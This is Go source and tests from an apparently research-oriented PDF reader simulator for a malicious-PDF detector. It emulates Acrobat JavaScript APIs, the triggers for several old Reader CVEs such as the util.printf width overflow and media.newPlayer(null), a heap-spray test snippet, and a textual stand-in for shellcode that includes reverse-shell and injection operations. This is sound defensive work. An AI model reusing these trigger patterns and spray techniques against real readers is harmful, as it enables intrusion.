			return hostFn(name, func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
				return js.NumberValue(v), nil
			})
		}
		d.Set("getTime", millis("getTime"))
		d.Set("valueOf", millis("valueOf"))
		d.Set("getFullYear", num("getFullYear", simClockYear))
		d.Set("getYear", num("getYear", simClockYear-1900))
		d.Set("getMonth", num("getMonth", simClockMonth))
		d.Set("getDate", num("getDate", simClockDate))
		d.Set("getDay", num("getDay", simClockDay))
		d.Set("getHours", num("getHours", 0))
		d.Set("getMinutes", num("getMinutes", 0))
		d.Set("getSeconds", num("getSeconds", 0))
		d.Set("getMilliseconds", num("getMilliseconds", 0))
		d.Set("toString", hostFn("toString", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
			return js.StringValue("Sat Jun 01 2013 00:00:00 GMT+0000"), nil
		}))
		return js.ObjectValue(d), nil
	})
}

func hostFn(name string, fn js.HostFn) js.Value {
	return js.ObjectValue(js.NewHostFunc(name, fn))
}

func jsArg(args []js.Value, i int) js.Value {
	if i < len(args) {
		return args[i]
	}
	return js.Undefined()
}

// ---- app ----

func (p *Process) buildApp(od *OpenDoc) *js.Object {
	app := js.NewHostObject("app")
	app.Set("viewerVersion", js.NumberValue(p.cfg.ViewerVersion))
	app.Set("viewerType", js.StringValue("Reader"))
	app.Set("platform", js.StringValue("WIN"))
	app.Set("language", js.StringValue("ENU"))
	app.Set("alert", hostFn("alert", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		return js.NumberValue(1), nil // user clicks OK
	}))
	app.Set("beep", hostFn("beep", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	app.Set("setTimeOut", hostFn("setTimeOut", func(it *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		code := jsArg(args, 0)
		if code.IsString() {
			od.timers = append(od.timers, timerEntry{code: code.Str(), ms: jsArg(args, 1).ToNumber()})
		}
		return js.NumberValue(float64(len(od.timers))), nil
	}))
	app.Set("setInterval", hostFn("setInterval", func(it *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		code := jsArg(args, 0)
		if code.IsString() {
			// Executed once in the simulation; real intervals repeat.
			od.timers = append(od.timers, timerEntry{code: code.Str(), ms: jsArg(args, 1).ToNumber()})
		}
		return js.NumberValue(float64(len(od.timers))), nil
	}))
	app.Set("clearTimeOut", hostFn("clearTimeOut", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	// launchURL and mailMsg delegate to third-party applications (browser,
	// mail client), which the runtime detector does not monitor (§III-D):
	// no hooked connect is emitted from this process.
	app.Set("launchURL", hostFn("launchURL", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	app.Set("mailMsg", hostFn("mailMsg", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	return app
}

// ---- Doc (this) ----

func (p *Process) buildDoc(od *OpenDoc) *js.Object {
	doc := js.NewHostObject("Doc")
	info := js.NewObject()
	title := ""
	if od.Doc.Trailer != nil {
		if infoDict, ok := od.Doc.ResolveDict(od.Doc.Trailer.Get("Info")); ok {
			for _, k := range infoDict.SortedKeys() {
				if s, ok := od.Doc.Resolve(infoDict[k]).(pdf.String); ok {
					key := strings.ToLower(string(k))
					info.Set(key, js.StringValue(s.Text()))
					if key == "title" {
						title = s.Text()
					}
				}
			}
		}
	}
	doc.Set("info", js.ObjectValue(info))
	doc.Set("title", js.StringValue(title))
	doc.Set("numPages", js.NumberValue(float64(countPages(od.Doc))))
	doc.Set("pageNum", js.NumberValue(0))

	addDynamic := func(args []js.Value, codeIdx int) {
		code := jsArg(args, codeIdx)
		if code.IsString() && code.Str() != "" {
			od.dynamic = append(od.dynamic, code.Str())
		}
	}
	doc.Set("addScript", hostFn("addScript", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		addDynamic(args, 1)
		return js.Undefined(), nil
	}))
	doc.Set("setAction", hostFn("setAction", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		addDynamic(args, len(args)-1)
		return js.Undefined(), nil
	}))
	doc.Set("setPageAction", hostFn("setPageAction", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		addDynamic(args, len(args)-1)
		return js.Undefined(), nil
	}))
	doc.Set("getField", hostFn("getField", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		field := js.NewObject()
		field.Set("name", jsArg(args, 0))
		field.Set("value", js.StringValue(""))
		field.Set("setAction", hostFn("setAction", func(_ *js.Interp, _ js.Value, fargs []js.Value) (js.Value, error) {
			addDynamic(fargs, len(fargs)-1)
			return js.Undefined(), nil
		}))
		return js.ObjectValue(field), nil
	}))
	doc.Set("bookmarkRoot", js.ObjectValue(p.buildBookmark(od)))
	doc.Set("getAnnots", hostFn("getAnnots", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		// CVE-2009-1492 lives here; not exploitable on the simulated
		// versions, matching the 58 "did nothing" samples in §V-C.
		od.exploits = append(od.exploits, ExploitEvent{CVE: CVE20091492, Stage: StageNotVulnerable, InJS: true})
		return js.ObjectValue(js.NewArray()), nil
	}))
	doc.Set("syncAnnotScan", hostFn("syncAnnotScan", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	doc.Set("printSeps", hostFn("printSeps", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return p.vulnCall(od, CVE20104091)
	}))
	doc.Set("closeDoc", hostFn("closeDoc", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	doc.Set("calculateNow", hostFn("calculateNow", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	return doc
}

func (p *Process) buildBookmark(od *OpenDoc) *js.Object {
	bm := js.NewHostObject("Bookmark")
	bm.Set("name", js.StringValue("root"))
	bm.Set("setAction", hostFn("setAction", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		code := jsArg(args, len(args)-1)
		if code.IsString() && code.Str() != "" {
			od.dynamic = append(od.dynamic, code.Str())
		}
		return js.Undefined(), nil
	}))
	return bm
}

func countPages(doc *pdf.Document) int {
	count := 0
	for _, num := range doc.Numbers() {
		obj, _ := doc.Get(num)
		if d, ok := obj.Object.(pdf.Dict); ok {
			if t, _ := d.Get("Type").(pdf.Name); t == "Page" {
				count++
			}
		}
	}
	return count
}

// ---- util ----

// printfWidthLimit is the format-width beyond which util.printf overflows
// its stack buffer (CVE-2008-2992 used %45000f).
const printfWidthLimit = 4096

func (p *Process) buildUtil(od *OpenDoc) *js.Object {
	util := js.NewHostObject("util")
	util.Set("printf", hostFn("printf", func(it *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		format := jsArg(args, 0)
		if format.IsString() && maxFormatWidth(format.Str()) >= printfWidthLimit {
			return p.vulnCall(od, CVE20082992)
		}
		// Benign path: a minimal %s/%d/%f formatter.
		return js.StringValue(miniSprintf(format.Str(), args[1:])), nil
	}))
	util.Set("printd", hostFn("printd", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		return js.StringValue("2013/06/01"), nil
	}))
	util.Set("printx", hostFn("printx", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		return jsArg(args, 1), nil
	}))
	util.Set("byteToChar", hostFn("byteToChar", func(it *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		return js.StringValue(string(rune(int(jsArg(args, 0).ToNumber()) & 0xff))), nil
	}))
	util.Set("stringFromStream", hostFn("stringFromStream", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.StringValue(""), nil
	}))
	return util
}

// maxFormatWidth extracts the largest numeric width in a printf format.
func maxFormatWidth(format string) int {
	maxWidth := 0
	for i := 0; i < len(format); i++ {
		if format[i] != '%' {
			continue
		}
		j := i + 1
		width := 0
		for j < len(format) && format[j] >= '0' && format[j] <= '9' {
			width = width*10 + int(format[j]-'0')
			j++
		}
		if width > maxWidth {
			maxWidth = width
		}
		i = j
	}
	return maxWidth
}

// miniSprintf implements the %s %d %f subset benign documents use.
func miniSprintf(format string, args []js.Value) string {
	var sb strings.Builder
	argIdx := 0
	nextArg := func() js.Value {
		if argIdx < len(args) {
			v := args[argIdx]
			argIdx++
			return v
		}
		return js.Undefined()
	}
	for i := 0; i < len(format); i++ {
		c := format[i]
		if c != '%' || i+1 >= len(format) {
			sb.WriteByte(c)
			continue
		}
		i++
		// Skip flags/width/precision.
		for i < len(format) && (format[i] == '.' || format[i] == ',' || (format[i] >= '0' && format[i] <= '9')) {
			i++
		}
		if i >= len(format) {
			break
		}
		switch format[i] {
		case 's':
			sb.WriteString(js.ToDisplay(nextArg()))
		case 'd':
			sb.WriteString(fmt.Sprintf("%d", int64(nextArg().ToNumber())))
		case 'f':
			sb.WriteString(fmt.Sprintf("%f", nextArg().ToNumber()))
		case 'x':
			sb.WriteString(fmt.Sprintf("%x", int64(nextArg().ToNumber())))
		case '%':
			sb.WriteByte('%')
		default:
			sb.WriteByte(format[i])
		}
	}
	return sb.String()
}

// ---- Collab / media / spell ----

const overflowArgLen = 4096

func (p *Process) buildCollab(od *OpenDoc) *js.Object {
	collab := js.NewHostObject("Collab")
	collab.Set("getIcon", hostFn("getIcon", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		name := jsArg(args, 0)
		if name.IsString() && name.StrLen() >= overflowArgLen {
			return p.vulnCall(od, CVE20090927)
		}
		return js.Undefined(), nil
	}))
	collab.Set("collectEmailInfo", hostFn("collectEmailInfo", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	}))
	return collab
}

func (p *Process) buildMedia(od *OpenDoc) *js.Object {
	media := js.NewHostObject("media")
	media.Set("newPlayer", hostFn("newPlayer", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		// The public CVE-2009-4324 exploit calls media.newPlayer(null).
		if jsArg(args, 0).IsNull() {
			return p.vulnCall(od, CVE20094324)
		}
		return js.ObjectValue(js.NewObject()), nil
	}))
	return media
}

func (p *Process) buildSpell(od *OpenDoc) *js.Object {
	spell := js.NewHostObject("spell")
	spell.Set("customDictionaryOpen", hostFn("customDictionaryOpen", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		path := jsArg(args, 1)
		if !path.IsString() {
			path = jsArg(args, 0)
		}
		if path.IsString() && path.StrLen() >= overflowArgLen {
			return p.vulnCall(od, CVE20091493)
		}
		return js.Undefined(), nil
	}))
	return spell
}

// vulnCall funnels a triggered vulnerable API into the exploit emulator.
func (p *Process) vulnCall(od *OpenDoc, cve string) (js.Value, error) {
	stage := p.attemptExploit(od, cve, nil, true)
	if stage == StageCrash {
		return js.Undefined(), &js.FatalError{Err: fmt.Errorf("access violation in %s", cve)}
	}
	return js.Undefined(), nil
}

// ---- SOAP / Net ----

// buildSOAP implements the SOAP object: requests addressed to a context
// endpoint (path suffix "/ctx") go to the live detector; anything else is
// ordinary network traffic through the hooked connect path.
func (p *Process) buildSOAP(od *OpenDoc) *js.Object {
	soap := js.NewHostObject("SOAP")
	soap.Set("request", hostFn("request", func(it *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		req := jsArg(args, 0).Object()
		if req == nil {
			return js.Undefined(), &js.ThrowError{Value: js.StringValue("SOAP.request: bad argument")}
		}
		curlV, _ := req.GetOwn("cURL")
		curl := curlV.Str()
		if strings.HasSuffix(strings.Split(curl, "?")[0], "/ctx") && p.cfg.DetectorSOAP != "" {
			return p.soapToDetector(it, req)
		}
		// Ordinary web-service SOAP: a network access in JS context.
		host := hostOf(curl)
		if !p.sysConnect(host) {
			return js.Undefined(), &js.ThrowError{Value: js.StringValue("SOAP.request: connection refused")}
		}
		resp := js.NewObject()
		resp.Set("status", js.NumberValue(200))
		return js.ObjectValue(resp), nil
	}))
	soap.Set("connect", hostFn("connect", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		url := jsArg(args, 0)
		host := hostOf(url.Str())
		if !p.sysConnect(host) {
			return js.Undefined(), &js.ThrowError{Value: js.StringValue("SOAP.connect: refused")}
		}
		return js.ObjectValue(js.NewObject()), nil
	}))
	return soap
}

// soapToDetector delivers a context notification to the live detector. The
// hook DLL's memory sample is emitted first so the detector has a fresh
// reading at the context boundary; communications with the detector are
// whitelisted and produce no network-access event.
func (p *Process) soapToDetector(it *js.Interp, req *js.Object) (js.Value, error) {
	p.emitMemSample()
	oreqV, _ := req.GetOwn("oRequest")
	oreq := oreqV.Object()
	if oreq == nil {
		return js.Undefined(), &js.ThrowError{Value: js.StringValue("SOAP.request: missing oRequest")}
	}
	ev, _ := oreq.GetOwn("Event")
	key, _ := oreq.GetOwn("Key")
	seq, _ := oreq.GetOwn("Seq")
	client := soapsrv.NewClient(p.cfg.DetectorSOAP)
	status, err := client.Send(soapsrv.Notify{Event: ev.Str(), Key: key.Str(), Seq: int(seq.ToNumber()), PID: p.PID})
	if err != nil {
		// Faults (e.g. fake-message rejection) surface as catchable JS
		// errors; the zero-tolerance consequence already fired inside the
		// detector.
		return js.Undefined(), &js.ThrowError{Value: js.StringValue("SOAP fault: " + err.Error())}
	}
	resp := js.NewObject()
	resp.Set("status", js.StringValue(status))
	return js.ObjectValue(resp), nil
}

// buildNet exposes Net with an HTTP object whose use inside documents is
// forbidden, as the Acrobat API reference specifies.
func (p *Process) buildNet() *js.Object {
	net := js.NewHostObject("Net")
	httpObj := js.NewHostObject("Net.HTTP")
	httpObj.Set("request", hostFn("request", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), &js.ThrowError{Value: js.StringValue("NotAllowedError: Net.HTTP cannot be invoked from a document")}
	}))
	net.Set("HTTP", js.ObjectValue(httpObj))
	return net
}
