package reader

import (
	"strings"
	"testing"

	"pdfshield/internal/hook"
	"pdfshield/internal/pdf"
)

// openScript runs one script in a fresh process and returns the result.
func openScript(t *testing.T, version float64, sink hook.Sink, script string) (*Process, *OpenResult) {
	t.Helper()
	cfg := Config{ViewerVersion: version}
	if sink != nil {
		cfg.Sink = sink
	}
	p := NewProcess(cfg)
	res, err := p.Open("t", buildJSDoc(t, script), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return p, res
}

func TestAppAPIs(t *testing.T) {
	_, res := openScript(t, 9.0, nil, `
if (app.viewerVersion != 9) throw "version";
if (app.viewerType != "Reader") throw "type";
if (app.platform != "WIN") throw "platform";
var clicked = app.alert("hello");
if (clicked != 1) throw "alert return";
app.beep(0);
app.clearTimeOut(1);
app.launchURL("http://example.com");
app.mailMsg(true, "a@example.com");
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
}

func TestLaunchURLNotMonitored(t *testing.T) {
	// launchURL/mailMsg delegate to third-party apps: no hooked connect.
	sink := &hook.RecordingSink{}
	_, res := openScript(t, 9.0, sink, `app.launchURL("http://x.test"); app.mailMsg(true, "a@b");`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
	if len(sink.Events()) != 0 {
		t.Errorf("third-party launches produced hooked events: %+v", sink.Events())
	}
}

func TestUtilBenignPaths(t *testing.T) {
	_, res := openScript(t, 9.0, nil, `
var s = util.printf("x=%d y=%s z=%f", 7, "ok", 1.5);
if (s.indexOf("x=7") < 0) throw "printf: " + s;
if (s.indexOf("y=ok") < 0) throw "printf s";
var d = util.printd("yyyy/mm/dd", 0);
if (d.length < 8) throw "printd";
var c = util.byteToChar(65);
if (c != "A") throw "byteToChar";
var pct = util.printf("100%%");
if (pct != "100%") throw "percent: " + pct;
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
}

func TestDocAPIs(t *testing.T) {
	_, res := openScript(t, 9.0, nil, `
if (this.numPages != 1) throw "numPages " + this.numPages;
var f = this.getField("total");
f.value = "12.5";
if (f.value != "12.5") throw "field value";
this.calculateNow();
this.syncAnnotScan();
var bm = this.bookmarkRoot;
if (bm.name != "root") throw "bookmark";
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
}

func TestBookmarkSetActionStaged(t *testing.T) {
	p, res := openScript(t, 9.0, nil, `
this.bookmarkRoot.setAction("staged = 7;");
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
	if res.JSRuns != 2 {
		t.Errorf("JSRuns = %d, want 2 (main + bookmark action)", res.JSRuns)
	}
	_ = p
}

func TestFieldSetActionStaged(t *testing.T) {
	_, res := openScript(t, 9.0, nil, `
var f = this.getField("btn");
f.setAction("MouseUp", "fieldStage = 1;");
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
	if res.JSRuns != 2 {
		t.Errorf("JSRuns = %d", res.JSRuns)
	}
}

func TestBenignMediaAndSpell(t *testing.T) {
	_, res := openScript(t, 9.0, nil, `
var player = media.newPlayer({url: "movie.mp4"});
if (typeof player != "object") throw "player";
spell.customDictionaryOpen(0, "en-US");
Collab.getIcon("small.png");
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("benign media/spell paths errored: %v", res.ScriptErrors)
	}
}

func TestDocInfoFromPDF(t *testing.T) {
	d := pdf.NewDocument()
	jsRef := d.Add(pdf.String{Value: []byte(`
if (this.info.title != "My Title") throw "title: " + this.info.title;
if (this.info.author != "Alice") throw "author";
`)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	info := d.Add(pdf.Dict{
		"Title":  pdf.String{Value: []byte("My Title")},
		"Author": pdf.String{Value: []byte("Alice")},
	})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	d.Trailer["Info"] = info
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p := NewProcess(Config{ViewerVersion: 9.0})
	res, err := p.Open("info", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
}

func TestGetAnnotsRecordsNotVulnerable(t *testing.T) {
	_, res := openScript(t, 9.0, nil, `var a = this.getAnnots({nPage: 0}); if (a.length != 0) throw "annots";`)
	if len(res.Exploits) != 1 || res.Exploits[0].CVE != CVE20091492 || res.Exploits[0].Stage != StageNotVulnerable {
		t.Errorf("exploits = %+v", res.Exploits)
	}
}

func TestMemorySampleEmittedDuringSpray(t *testing.T) {
	sink := &hook.RecordingSink{}
	_, res := openScript(t, 9.0, sink, `
var s = unescape("%0c%0c%0c%0c");
while (s.length < 524288) s += s;
var blocks = [];
for (var i = 0; i < 80; i++) blocks[i] = s + "x";
`)
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("errors: %v", res.ScriptErrors)
	}
	samples := 0
	var lastMem float64
	for _, ev := range sink.Events() {
		if ev.Behavior() == hook.BehaviorMemorySample {
			samples++
			lastMem = ev.MemMB
		}
	}
	// ~80 MB of allocations at a 32 MB sampling step -> at least 2 samples.
	if samples < 2 {
		t.Errorf("memory samples = %d, want >= 2", samples)
	}
	if lastMem < 60 {
		t.Errorf("last sampled memory = %.1f MB", lastMem)
	}
}

func TestMaxFormatWidth(t *testing.T) {
	tests := []struct {
		format string
		want   int
	}{
		{"%d", 0},
		{"%5d", 5},
		{"%45000f", 45000},
		{"a %3s b %7d", 7},
		{"no verbs", 0},
	}
	for _, tt := range tests {
		if got := maxFormatWidth(tt.format); got != tt.want {
			t.Errorf("maxFormatWidth(%q) = %d, want %d", tt.format, got, tt.want)
		}
	}
}

func TestHostOf(t *testing.T) {
	tests := []struct{ url, want string }{
		{"http://a.test/x", "a.test:80"},
		{"https://b.test:8443/y", "b.test:8443"},
		{"c.test:99", "c.test:99"},
		{"d.test", "d.test:80"},
	}
	for _, tt := range tests {
		if got := hostOf(tt.url); got != tt.want {
			t.Errorf("hostOf(%q) = %q, want %q", tt.url, got, tt.want)
		}
	}
}

func TestMiniSprintfEdge(t *testing.T) {
	out := miniSprintf("%x", nil)
	if !strings.Contains(out, "0") {
		t.Errorf("missing-arg %%x = %q", out)
	}
}
