// Package reader simulates the PDF reader process the paper instruments:
// it opens documents, triggers their Javascript through the embedded js
// engine, emulates the exploited vulnerabilities at system-call level, and
// routes every sensitive API through the hook layer so the runtime
// detector observes exactly what a hooked Acrobat would produce.
package reader

import (
	"fmt"
	"strings"
)

// PayloadMarker prefixes the op program a "shellcode" carries. In the real
// world the NOP sled leads to x86 shellcode; here it leads to a textual op
// program that the hijack emulator decodes and executes with the same
// system-level effects (drops, process creation, connections, egg-hunting,
// DLL injection).
const PayloadMarker = "PAYLOAD:"

// PayloadOpKind enumerates shellcode operations.
type PayloadOpKind string

// Shellcode operations.
const (
	// OpDrop writes an executable to disk (NtCreateFile).
	OpDrop PayloadOpKind = "DROP"
	// OpDownload fetches a URL to a file (connect + URLDownloadToFileA).
	OpDownload PayloadOpKind = "DOWNLOAD"
	// OpExec creates a process (NtCreateProcess).
	OpExec PayloadOpKind = "EXEC"
	// OpConnect opens an outbound connection (connect).
	OpConnect PayloadOpKind = "CONNECT"
	// OpListen opens a reverse-shell listener (listen).
	OpListen PayloadOpKind = "LISTEN"
	// OpEggHunt searches mapped memory for an embedded egg
	// (NtAccessCheckAndAuditAlarm / IsBadReadPtr / ...), then drops it.
	OpEggHunt PayloadOpKind = "EGGHUNT"
	// OpInject injects a DLL into another process (CreateRemoteThread).
	OpInject PayloadOpKind = "INJECT"
)

// PayloadOp is one shellcode operation with its arguments.
type PayloadOp struct {
	Kind PayloadOpKind
	// Args meaning per kind:
	//   DROP path | DOWNLOAD url path | EXEC path | CONNECT host:port |
	//   LISTEN port | EGGHUNT dropPath | INJECT dllPath
	Args []string
}

// EncodePayload renders ops as the marker string embedded after a NOP sled.
func EncodePayload(ops []PayloadOp) string {
	parts := make([]string, len(ops))
	for i, op := range ops {
		parts[i] = string(op.Kind)
		if len(op.Args) > 0 {
			parts[i] += "=" + strings.Join(op.Args, ",")
		}
	}
	return PayloadMarker + strings.Join(parts, ";")
}

// DecodePayload extracts and parses the first payload program found in a
// sprayed block. The program terminates at the first character outside the
// op alphabet (real shellcode is length-delimited; the textual stand-in
// ends at a '|' terminator or end of string).
func DecodePayload(block string) ([]PayloadOp, bool) {
	idx := strings.Index(block, PayloadMarker)
	if idx < 0 {
		return nil, false
	}
	body := block[idx+len(PayloadMarker):]
	if end := strings.IndexByte(body, '|'); end >= 0 {
		body = body[:end]
	}
	var ops []PayloadOp
	for _, part := range strings.Split(body, ";") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		kindStr, argStr, hasArgs := strings.Cut(part, "=")
		kind := PayloadOpKind(kindStr)
		switch kind {
		case OpDrop, OpDownload, OpExec, OpConnect, OpListen, OpEggHunt, OpInject:
		default:
			// Unknown op ends the program (trailing spray bytes).
			return ops, len(ops) > 0
		}
		op := PayloadOp{Kind: kind}
		if hasArgs {
			op.Args = strings.Split(argStr, ",")
		}
		ops = append(ops, op)
	}
	return ops, len(ops) > 0
}

func (op PayloadOp) String() string {
	return fmt.Sprintf("%s(%s)", op.Kind, strings.Join(op.Args, ","))
}
