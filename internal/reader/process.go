package reader

import (
	"errors"
	"fmt"
	"strings"

	"pdfshield/internal/hook"
	"pdfshield/internal/js"
	"pdfshield/internal/pdf"
	"pdfshield/internal/winos"
)

// Config configures a simulated reader process.
type Config struct {
	// ViewerVersion models the installed Acrobat version (default 9.0).
	ViewerVersion float64
	// Sink receives hooked API calls (default hook.AllowAllSink — an
	// unprotected machine).
	Sink hook.Sink
	// OS is the shared fake OS (default: fresh).
	OS *winos.OS
	// DetectorSOAP is the live detector's SOAP endpoint; SOAP.request
	// calls whose cURL path ends in /ctx are routed there. Empty means no
	// detector is installed.
	DetectorSOAP string
	// StepLimit and MaxHeap bound each document's scripts (0 = js
	// defaults).
	StepLimit int64
	MaxHeap   int64
	// Units is the compiled-unit cache shared by every document interpreter
	// this process creates (nil = js.DefaultUnits). The cache outlives
	// Reset, so recycled sessions keep their precompiled monitoring code.
	Units *js.UnitCache
	// TreeWalkJS forces the interpreter's recursive tree-walking engine
	// instead of the bytecode VM. Detection semantics are identical on both
	// engines (the differential suite pins that); the switch exists for
	// engine A/B benchmarking and as an escape hatch.
	TreeWalkJS bool
}

// Memory model constants, tuned so the shapes of Figures 7 and 8 hold:
// tens of MB per open document growing linearly with file size, and a
// process baseline in the tens of MB.
const (
	baseMemMB        = 25.0
	perDocFixedMB    = 1.5
	perDocPerMB      = 3.2
	perDocCapMB      = 120.0
	compactFactor    = 0.45
	compactAtMB      = 800.0
	readerExeName    = `C:\Program Files\Adobe\Reader\AcroRd32.exe`
	helperExeName    = `C:\Program Files\Common Files\Adobe\ARM\AdobeARM.exe`
	maxSprayBlocks   = 8
	eggHuntProbes    = 8
	maxDynamicRounds = 16
	// memSampleStepBytes is the allocation growth between hook-layer
	// memory samples.
	memSampleStepBytes = 32 << 20
)

// Process is one simulated single-threaded PDF reader process.
type Process struct {
	cfg  Config
	os   *winos.OS
	sink hook.Sink

	// PID is the process id in the fake OS.
	PID int

	docsMemMB   float64
	jsHeapBytes int64
	// lastSampledHeap tracks the allocation level at the last emitted
	// memory sample; the hook layer samples PROCESS_MEMORY_COUNTERS_EX
	// whenever script allocations grow by another memSampleStepBytes, so
	// a spray is visible to the detector even if the script never calls a
	// hooked API before crashing.
	lastSampledHeap int64
	compacted       bool
	crashed         bool

	docs []*OpenDoc
}

// OpenOptions tunes one document open.
type OpenOptions struct {
	// OptimizeHint marks documents that trigger the reader's memory
	// optimization observed for one document in Figure 8.
	OptimizeHint bool
	// SpawnHelper emits the benign out-of-JS AdobeARM process creation
	// that real readers produce occasionally (false-positive pressure).
	SpawnHelper bool
	// ForceExec, when non-nil, runs every script under JSForce-style
	// forced execution with the given bounds (the deep-scan tier): both
	// arms of each if/ternary are explored, forced-path crashes are
	// recovered, and runtime features union across paths. Distinct
	// script sources are explored once per open.
	ForceExec *js.ForceConfig
}

// OpenDoc is one open document within the process.
type OpenDoc struct {
	ID     string
	Doc    *pdf.Document
	Chains pdf.ChainSet

	interp      *js.Interp
	proc        *Process
	sprayBlocks []string
	heapBytes   int64
	memMB       float64

	timers   []timerEntry
	dynamic  []string
	eggData  []byte
	exploits []ExploitEvent
	jsErrs   []string
	jsRuns   int

	// Deep-scan state: the forced-execution bounds for this open (nil on
	// standard opens), the set of already-explored script sources, and
	// per-open path accounting.
	force         *js.ForceConfig
	deepSeen      map[string]bool
	deepPaths     int
	deepCrashed   int
	deepExhausted int
}

type timerEntry struct {
	code string
	ms   float64
}

// OpenResult summarizes one document open.
type OpenResult struct {
	DocID string
	// Crashed reports the process crashed while handling this document.
	Crashed bool
	// JSRuns counts separate script executions.
	JSRuns int
	// ScriptErrors holds non-fatal script failures.
	ScriptErrors []string
	// Exploits lists exploit attempts and their outcomes.
	Exploits []ExploitEvent
	// MemAfterMB is process memory after the open sequence.
	MemAfterMB float64
	// JSHeapMB is this document's cumulative script allocation in MB.
	JSHeapMB float64
	// DeepPaths counts forced-execution paths explored across all of the
	// document's scripts (0 on standard opens; ≥1 per script on deep
	// opens — the natural path counts).
	DeepPaths int
	// DeepCrashedPaths counts forced paths abandoned on a recovered
	// emulated crash.
	DeepCrashedPaths int
	// DeepBudgetExhausted counts scripts whose exploration was cut short
	// by a path, step, or decision budget.
	DeepBudgetExhausted int
}

// NewProcess starts a reader process in the fake OS.
func NewProcess(cfg Config) *Process {
	if cfg.ViewerVersion == 0 {
		cfg.ViewerVersion = 9.0
	}
	if cfg.Sink == nil {
		cfg.Sink = hook.AllowAllSink{}
	}
	if cfg.OS == nil {
		cfg.OS = winos.NewOS()
	}
	p := &Process{cfg: cfg, os: cfg.OS, sink: cfg.Sink}
	p.PID = p.os.Spawn(readerExeName, 0, false)
	return p
}

// OS exposes the fake OS (examples and tests inspect effects).
func (p *Process) OS() *winos.OS { return p.os }

// Crashed reports whether the process crashed.
func (p *Process) Crashed() bool { return p.crashed }

// MemMB returns the current PROCESS_MEMORY_COUNTERS_EX-style private usage.
func (p *Process) MemMB() float64 {
	return baseMemMB + p.docsMemMB + float64(p.jsHeapBytes)/(1<<20)
}

// Close terminates the process in the fake OS.
func (p *Process) Close() {
	p.os.Terminate(p.PID)
}

// Reset recycles the process for the next document: the old process is
// terminated in the fake OS and a fresh one spawned, discarding all
// per-process state (open documents, script heap, crash flag). Callers that
// process documents in bulk use this to keep the surrounding session — in
// particular the hook connection to the detector — alive, while each
// document still observes the behaviour of a freshly started reader.
func (p *Process) Reset() {
	p.os.Terminate(p.PID)
	p.PID = p.os.Spawn(readerExeName, 0, false)
	p.docsMemMB = 0
	p.jsHeapBytes = 0
	p.lastSampledHeap = 0
	p.compacted = false
	p.crashed = false
	p.docs = nil
}

// apiCall reports a hooked API to the sink and returns the decision. When
// no detector is reachable the call proceeds (fail-open, like a hook DLL
// whose detector died).
func (p *Process) apiCall(name string, args ...string) hook.Decision {
	dec, err := p.sink.OnAPICall(hook.Event{PID: p.PID, API: name, Args: args, MemMB: p.MemMB()})
	if err != nil {
		return hook.Decision{Action: hook.ActionAllow, Note: "sink unreachable"}
	}
	return dec
}

// ---- hooked syscall wrappers ----

func (p *Process) sysCreateFile(path string, data []byte) bool {
	dec := p.apiCall("NtCreateFile", path)
